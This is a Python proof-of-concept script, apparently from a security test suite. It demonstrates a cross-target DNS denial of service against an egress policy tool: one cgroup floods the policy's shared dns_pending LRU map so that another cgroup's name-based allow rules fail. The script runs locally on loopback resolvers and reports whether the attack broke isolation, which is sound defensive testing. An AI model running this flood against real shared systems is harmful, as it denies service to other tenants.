#!/usr/bin/env python3
"""ATTACK 2 (unprivileged process in target A): deny DNS names to target B of the same
policy by flooding the policy's shared `dns_pending` LRU (4096 entries).

Every UDP datagram to port 53 that a target's egress lets through writes one dns_pending
entry (socket cookie, id); the map is one per policy, shared by every target (and every
glob match). A workload in target A sending a few thousand queries per second to any
address the policy lets it query evicts target B's pending queries before B's answers
arrive; those answers then teach nothing, and B's `allow` by name refuses addresses B
resolved correctly (fails closed, but a denial of service across targets). The resolver
here takes 50 ms per answer (an upstream recursion); A floods the policy's second
resolver, so the first one is not loaded at all.

Run as root: .venv/bin/python attack/pending_flood_dos.py [ANSWER_DELAY_S, default 0.05]
(exit 0 = B was denied)
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import time

import common
from resolver import Resolver

PRIMARY, SECONDARY = "127.77.0.53", "127.77.0.54"
CLIENT = str(common.REPO / "attack/client.py")
PY = "/usr/bin/python3"


def main() -> int:
    cgs = common.setup("a", "b")
    spec = {
        "sockets": {"connect": {"default": "deny", "rules": [
            {"action": "allow", "protocol": "udp", "cidrs": [f"{PRIMARY}/32", f"{SECONDARY}/32"], "ports": [53]},
            {"action": "allow", "ports": [443], "fqdns": ["*.example.test"]}]}}
    }
    common.cli("apply", str(common.write_policy("pending", common.policy("attack-pending", [cgs["a"], cgs["b"]], spec))))
    server = Resolver(PRIMARY, delay=float(sys.argv[1]) if len(sys.argv) > 1 else 0.05)
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # the second resolver: never reads
    sink.bind((SECONDARY, 53))

    def b_resolves(tag: str) -> list:
        names = [f"b{i}-{tag}.example.test" for i in range(20)]
        done = common.in_cgroup(cgs["b"], [PY, CLIENT, "resolve", PRIMARY, *names])
        return json.loads(done.stdout)

    quiet = b_resolves("quiet")
    ok_quiet = sum(row[2] == "ok" for row in quiet)
    print(f"B alone: {ok_quiet}/{len(quiet)} resolved addresses usable")
    flooders = [
        subprocess.Popen([*common.NOBODY, PY, CLIENT, "flood", SECONDARY, "8"],
                         preexec_fn=lambda: (cgs["a"] / "cgroup.procs").write_text("0"),
                         stdout=subprocess.PIPE, text=True)
        for _ in range(4)
    ]
    time.sleep(1)
    flooded = b_resolves("flooded")
    sent = sum(json.loads(p.communicate()[0])["sent"] for p in flooders)
    ok_flooded = sum(row[2] == "ok" for row in flooded)
    print(f"A sent {sent} queries in 8 s ({sent // 8}/s)")
    print(f"B during A's flood: {ok_flooded}/{len(flooded)} resolved addresses usable")
    print("  e.g.", flooded[:3])
    broke = ok_quiet == len(quiet) and ok_flooded < len(flooded) // 2
    print("RESULT:", "BROKE (cross-target DoS: B's answers teach nothing)" if broke else "held")
    server.close()
    sink.close()
    return 0 if broke else 1


if __name__ == "__main__":
    sys.exit(main())
